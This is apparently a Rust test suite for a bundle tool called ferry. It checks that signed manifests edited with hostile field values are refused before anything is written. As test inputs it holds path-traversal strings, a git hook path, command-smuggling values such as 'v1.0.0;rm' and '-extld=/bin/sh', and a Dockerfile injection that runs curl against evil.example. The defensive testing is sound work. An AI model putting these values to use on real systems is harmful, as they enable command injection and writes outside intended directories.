//! Manifest fields are input: a bundle whose ferry.json was edited and
//! signed again with the real release key (a signature says who made it,
//! not that its fields are sane) is refused by `verify` and `unpack` with
//! exit 1 naming the field, and nothing is written anywhere; the same edits
//! in an unpacked folder are refused by `build`, which never writes outside
//! its output.

use std::fs;

use serde_json::{Value, json};

use crate::common::rawzip::{entries_of, rebuild};
use crate::common::resign::{minisign_sign, resigned};
use crate::common::{Sandbox, assert_exit, assert_ok, assert_says};

/// The bundle with its manifest edited and signed again by the release key.
fn resign(sb: &Sandbox, bundle: &[u8], edit: impl Fn(&mut Value)) -> Vec<u8> {
    rebuild(&resigned(sb, &entries_of(bundle), edit)).build()
}

/// An edit of the manifest's JSON.
type Edit = Box<dyn Fn(&mut Value)>;

/// Each edit, and the field the refusal must name.
fn edits() -> Vec<(&'static str, Edit)> {
    vec![
        (
            "module.path",
            Box::new(|m| m["module"]["path"] = json!("../../evil")),
        ),
        (
            "modules[0].path",
            Box::new(|m| m["modules"][0]["path"] = json!("-x")),
        ),
        (
            "modules[0].version",
            Box::new(|m| m["modules"][0]["version"] = json!("v1.0.0;rm")),
        ),
        (
            "build.binary",
            Box::new(|m| m["build"]["binary"] = json!("../../escaped")),
        ),
        (
            "build.main",
            Box::new(|m| m["build"]["main"] = json!("../outside")),
        ),
        (
            "build.mains[1].binary",
            Box::new(|m| several(m, &[(".", "hello"), ("./cmd/hello", "hello")])),
        ),
        (
            "build.mains[1].package",
            Box::new(|m| several(m, &[(".", "hello"), ("../tool", "tool")])),
        ),
        (
            "build.tags[0]",
            Box::new(|m| m["build"]["tags"] = json!(["a b"])),
        ),
        (
            "build.ldflags",
            Box::new(|m| m["build"]["ldflags"] = json!("-extld=/bin/sh")),
        ),
        (
            "images[0].reference",
            Box::new(|m| m["images"] = json!([image("Evil/UPPER:1")])),
        ),
        (
            "entries[0].path",
            Box::new(|m| m["entries"][0]["path"] = json!(".git/hooks/post-checkout")),
        ),
        ("src/main.go", Box::new(|m| add_entry(m, "src/main.go/x"))),
        (
            "module.module_dir",
            Box::new(|m| m["module"]["module_dir"] = json!("../../etc")),
        ),
        (
            "module.workspace.dir",
            Box::new(|m| {
                m["module"]["workspace"] = json!({"dir": "/abs", "modules": []});
            }),
        ),
        (
            "module.workspace.modules[0].path",
            Box::new(|m| {
                m["module"]["workspace"] =
                    json!({"dir": "ws", "modules": [{"path": "../../evil", "dir": "ws/a"}]});
            }),
        ),
        (
            "module.workspace.modules[0].dir",
            Box::new(|m| {
                m["module"]["workspace"] =
                    json!({"dir": "ws", "modules": [{"path": "example.com/a", "dir": ".git/x"}]});
            }),
        ),
        (
            "base.from_base[0]",
            Box::new(|m| m["base"] = base(&["src/not-listed.go"])),
        ),
        (
            "base.from_base[1]",
            Box::new(|m| m["base"] = base(&["src/main.go", "src/go.mod"])),
        ),
        (
            "base.manifest_sha256",
            Box::new(|m| {
                m["base"] = base(&[]);
                m["base"]["manifest_sha256"] = json!("../x");
            }),
        ),
        (
            "base.module",
            Box::new(|m| {
                m["base"] = base(&[]);
                m["base"]["module"] = json!("../../evil");
            }),
        ),
        (
            "base.images[0].path",
            Box::new(|m| rebuilt(m, "src/main.go", &"00".repeat(512))),
        ),
        (
            "base.images[0].members[0].header",
            Box::new(|m| {
                add_entry(m, "images/app.tar");
                rebuilt(m, "images/app.tar", "not a tar header");
            }),
        ),
    ]
}

/// A delta's base rebuilding the tar `path` from one member with `header`.
fn rebuilt(m: &mut Value, path: &str, header: &str) {
    m["base"] = base(&[]);
    m["base"]["images"] = json!([{
        "path": path,
        "members": [{"header": header, "sha256": "ab".repeat(32), "size": 0}],
    }]);
}

/// `build` in the form of several binaries.
fn several(m: &mut Value, mains: &[(&str, &str)]) {
    let build = m["build"].as_object_mut().unwrap();
    build.remove("main");
    build.remove("binary");
    let list: Vec<Value> = mains
        .iter()
        .map(|(package, binary)| json!({"package": package, "binary": binary}))
        .collect();
    build.insert("mains".into(), json!(list));
}

/// A delta's base naming these entries as taken from it.
fn base(from_base: &[&str]) -> Value {
    json!({
        "manifest_sha256": "ab".repeat(32),
        "module": "example.com/hello",
        "version": "v1.0.0",
        "from_base": from_base,
    })
}

/// A re-signed manifest naming a base: without `--base`, every reader
/// says which base it needs (exit 1), and nothing is written.
#[test]
fn a_delta_without_its_base_names_the_base() {
    let sb = Sandbox::new();
    let good = fs::read(sb.pack("hello", "good.ferry")).unwrap();
    let delta = resign(&sb, &good, |m| m["base"] = base(&["src/main.go"]));
    fs::write(sb.path("delta.ferry"), delta).unwrap();
    let before = sb.listing();
    for args in [
        vec!["verify", "delta.ferry", "--pub", "rel.pub"],
        vec!["unpack", "delta.ferry", "--pub", "rel.pub", "-C", "dest"],
    ] {
        let out = sb.run(&args);
        assert_exit(&out, 1);
        let expect = format!(
            "come from the base example.com/hello v1.0.0 (ferry.json sha256:{})",
            "ab".repeat(32)
        );
        assert_says(
            &out,
            &[
                &expect,
                "give it with --base OLD",
                "src/main.go: carried, though the manifest takes it from the base",
            ],
        );
    }
    assert_eq!(sb.listing(), before);
}

fn image(reference: &str) -> Value {
    json!({
        "reference": reference,
        "tag": "busybox:1",
        "digest": format!("sha256:{}", "a".repeat(64)),
        "platform": "linux/amd64",
        "role": "builder",
        "entry": "images/busybox_1.tar",
    })
}

/// A manifest entry that makes an existing file a folder's prefix too.
fn add_entry(m: &mut Value, path: &str) {
    let list = m["entries"].as_array_mut().unwrap();
    let mut e = list[0].clone();
    e["path"] = json!(path);
    list.push(e);
    list.sort_by(|a, b| a["path"].as_str().cmp(&b["path"].as_str()));
}

#[test]
fn a_re_signed_manifest_with_a_field_against_its_rules_is_refused_before_anything_is_written() {
    let sb = Sandbox::new();
    let good = fs::read(sb.pack("hello", "good.ferry")).unwrap();
    for (field, edit) in edits() {
        fs::write(sb.path("bad.ferry"), resign(&sb, &good, edit)).unwrap();
        let before = sb.listing();
        let out = sb.run(&["verify", "bad.ferry", "--pub", "rel.pub"]);
        assert_exit(&out, 1);
        assert_says(&out, &["manifest field", field]);
        let out = sb.run(&["unpack", "bad.ferry", "--pub", "rel.pub", "-C", "dest"]);
        assert_exit(&out, 1);
        assert_says(&out, &[field, "nothing was written"]);
        assert_eq!(sb.listing(), before, "{field}: something was left behind");
    }
}

/// `build.cgo` reaches the Dockerfile's ENV line: anything but a JSON
/// boolean leaves the manifest unreadable, naming the field.
#[test]
fn a_cgo_field_that_is_not_a_boolean_is_refused() {
    let sb = Sandbox::new();
    let good = fs::read(sb.pack("hello", "good.ferry")).unwrap();
    let bad = resign(&sb, &good, |m| {
        m["build"]["cgo"] = json!("1\nRUN curl evil.example")
    });
    fs::write(sb.path("bad.ferry"), bad).unwrap();
    let before = sb.listing();
    for args in [
        &["verify", "bad.ferry", "--pub", "rel.pub"][..],
        &["unpack", "bad.ferry", "--pub", "rel.pub", "-C", "dest"],
    ] {
        let out = sb.run(args);
        assert_exit(&out, 1);
        assert_says(&out, &["manifest field build.cgo", "true or false"]);
    }
    assert_eq!(sb.listing(), before);
}

#[test]
fn verify_json_names_the_field_check_and_each_problem_code() {
    let sb = Sandbox::new();
    let good = fs::read(sb.pack("hello", "good.ferry")).unwrap();
    let bad = resign(&sb, &good, |m| m["build"]["binary"] = json!("/etc/passwd"));
    fs::write(sb.path("bad.ferry"), bad).unwrap();
    let out = sb.run(&["verify", "bad.ferry", "--pub", "rel.pub", "--json"]);
    assert_exit(&out, 1);
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let failed: Vec<&str> = v["checks"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["ok"] == false)
        .map(|c| c["check"].as_str().unwrap())
        .collect();
    assert_eq!(failed, ["fields"], "{v:#}");
    assert_eq!(v["problems"][0]["code"], "manifest-field", "{v:#}");
    assert_eq!(v["problems"][0]["severity"], "error", "{v:#}");
    assert_eq!(v["problems"][0]["actual"], "/etc/passwd", "{v:#}");
}

/// An unpacked folder whose ferry.json an intruder on the share edited:
/// without a trusted key nothing is believed, with one the edit is found.
#[test]
fn ferry_build_never_believes_an_edited_folder_and_never_writes_outside_its_output() {
    let sb = Sandbox::new();
    sb.pack("hello", "hello.ferry");
    sb.unpack("hello.ferry", "site");
    let manifest = sb.path("site/ferry.json");
    let mut value: Value = serde_json::from_slice(&fs::read(&manifest).unwrap()).unwrap();
    value["build"]["binary"] = json!("../escaped");
    fs::write(&manifest, serde_json::to_vec_pretty(&value).unwrap()).unwrap();

    let out = sb.run(&["build", "site"]);
    assert_exit(&out, 2);
    assert_says(&out, &["no trusted key", "--pub", "FERRY_TRUSTED_KEYS"]);
    let out = sb.run(&["build", "site", "--pub", "rel.pub"]);
    assert_exit(&out, 1);
    assert_says(&out, &["signature"]);

    let mut bytes = serde_json::to_vec_pretty(&value).unwrap();
    bytes.push(b'\n');
    fs::write(
        sb.path("site/ferry.json.minisig"),
        minisign_sign(&sb, &bytes),
    )
    .unwrap();
    fs::write(&manifest, bytes).unwrap();
    let out = sb.run(&["build", "site", "--pub", "rel.pub"]);
    assert_exit(&out, 1);
    assert_says(&out, &["manifest field build.binary", "../escaped"]);
    assert!(!sb.dir.path().parent().unwrap().join("escaped").exists());
    assert!(!sb.path("escaped").exists());
}

#[test]
fn pack_refuses_flags_that_readers_would_refuse_before_anything_runs() {
    let sb = Sandbox::new();
    for (flag, value, says) in [
        ("--main", "../outside", "--main"),
        ("--tags", "a b", "--tags"),
        ("--ldflags", "-extldflags=-static", "--ldflags"),
    ] {
        let arg = format!("{flag}={value}");
        let out = sb.pack_with("hello", "x.ferry", &[arg.as_str()]);
        assert_exit(&out, 2);
        assert_says(&out, &[says]);
        assert!(!sb.path("x.ferry").exists(), "{flag}: a bundle was written");
    }
    assert_ok(&sb.pack_with(
        "hello",
        "ok.ferry",
        &["--ldflags=-X main.version=1.2.3", "-q"],
    ));
}
